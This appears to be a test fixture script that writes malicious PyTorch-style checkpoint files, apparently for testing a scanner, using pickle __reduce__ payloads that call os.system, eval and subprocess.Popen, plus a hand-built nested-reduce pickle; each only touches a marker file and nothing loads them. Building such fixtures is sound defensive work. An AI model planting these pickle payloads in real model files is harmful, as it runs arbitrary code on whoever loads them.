"""Writes malicious checkpoints into argv[1]; each payload would create argv[2] (a marker file) if it ever ran.
Nothing here loads them: the files are only written. torch is used when present for the nested case."""
import builtins
import io
import os
import pickle
import subprocess
import sys
import zipfile

out, marker = sys.argv[1], sys.argv[2]
command = f"touch {marker}"


class OsSystem:
    def __reduce__(self):
        return (os.system, (command,))


class Eval:
    def __reduce__(self):
        return (builtins.eval, (f"__import__('os').system({command!r})",))


class Popen:
    def __reduce__(self):
        return (subprocess.Popen, (["touch", marker],))


# Nested reduce, written by hand as protocol-0 text (pickle cannot produce a reduce whose callable is itself
# the result of a reduce): {'weight': getattr(__import__('os'), 'system')(command)}.
NESTED = ("(dp0\nS'weight'\np1\n"
          "cbuiltins\ngetattr\n(cbuiltins\n__import__\n(S'os'\ntRS'system'\ntR"
          f"(S{command!r}\ntRs.").encode()


def torch_like_zip(name, payload, protocol=2):
    """The layout torch.save writes: <archive>/data.pkl, byteorder, data/<key>, version."""
    path = os.path.join(out, name)
    data = payload if isinstance(payload, bytes) else pickle.dumps({"weight": payload}, protocol=protocol)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as z:
        z.writestr("archive/data.pkl", data)
        z.writestr("archive/byteorder", "little")
        z.writestr("archive/data/0", b"\0" * 16)
        z.writestr("archive/version", "3\n")


torch_like_zip("os_system.pt", OsSystem())
torch_like_zip("eval.pt", Eval())
torch_like_zip("popen.pt", Popen())
torch_like_zip("nested_reduce.pt", NESTED)
torch_like_zip("protocol0.pt", OsSystem(), protocol=0)
torch_like_zip("protocol4.pt", Popen(), protocol=4)
try:
    import torch
    torch.save({"weight": torch.ones(2), "hook": OsSystem()}, os.path.join(out, "torch_save_payload.pt"))
except ImportError:
    pass
